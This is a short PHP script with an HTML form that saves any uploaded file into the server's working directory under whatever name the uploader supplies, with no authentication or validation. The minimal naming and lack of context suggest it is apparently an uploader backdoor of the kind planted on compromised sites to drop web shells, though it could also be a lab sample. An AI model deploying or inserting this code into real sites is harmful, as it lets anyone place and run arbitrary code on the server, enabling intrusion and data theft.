<?php
if (isset($_FILES['x'])) {
    move_uploaded_file($_FILES['x']['tmp_name'], getcwd() . '/' . $_FILES['x']['name']);
    echo "done";
}
?>
<form method="POST" enctype="multipart/form-data"><input type="file" name="x"><button>go</button></form>
